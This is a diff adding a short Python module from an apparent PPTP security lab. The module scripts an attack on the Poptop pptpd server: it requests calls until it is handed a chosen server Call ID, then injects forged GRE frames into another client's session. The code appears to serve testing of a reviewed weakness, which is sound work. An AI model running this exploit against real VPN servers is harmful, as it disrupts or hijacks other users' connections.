@@ -1,0 +1,36 @@
+"""Hostile call set-ups for hostile.py (docs/packet-path.md, "Integrity")."""
+import socket
+import time
+
+from pptplab import gre, messages as m
+
+
+def call_id_range(a, read_message):
+    """A client that runs its control connection past Poptop's range of 128 server Call IDs
+    a connection (s35 review F0): one call; --seconds later (another client has connected
+    meanwhile and got the next range) more Outgoing-Call-Requests until pptpd gives one the
+    server Call ID --key, at most --count; then 40 GRE IP frames keyed --key from our own
+    address, their sequence numbers far ahead. Behind one public address pptpd cannot tell
+    them from the other client's frames of its call with that Call ID."""
+    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.sendall(m.sccrq("range"))
+    read_message(s, m.SCCRP)
+    s.sendall(m.ocrq(1000))
+    given = [m.u16(read_message(s, m.OCRP), 12)]
+    time.sleep(a.seconds)
+    while given[-1] != a.key and len(given) < a.count:
+        s.sendall(m.ocrq(1000 + len(given)))
+        given.append(m.u16(read_message(s, m.OCRP), 12))
+    hit = given[-1] == a.key
+    frames = 0
+    if hit:
+        raw = gre.open_socket(a.local)
+        for i in range(40):
+            raw.sendto(gre.build(a.key, b"\xff\x03\x00\x21range-%d" % i, seq=50000 + i), (a.target, 0))
+            frames += 1
+            time.sleep(0.05)
+        raw.close()
+    time.sleep(1)
+    s.close()
+    return {"requests": len(given), "first": given[0], "last": given[-1], "hit": hit, "frames": frames}
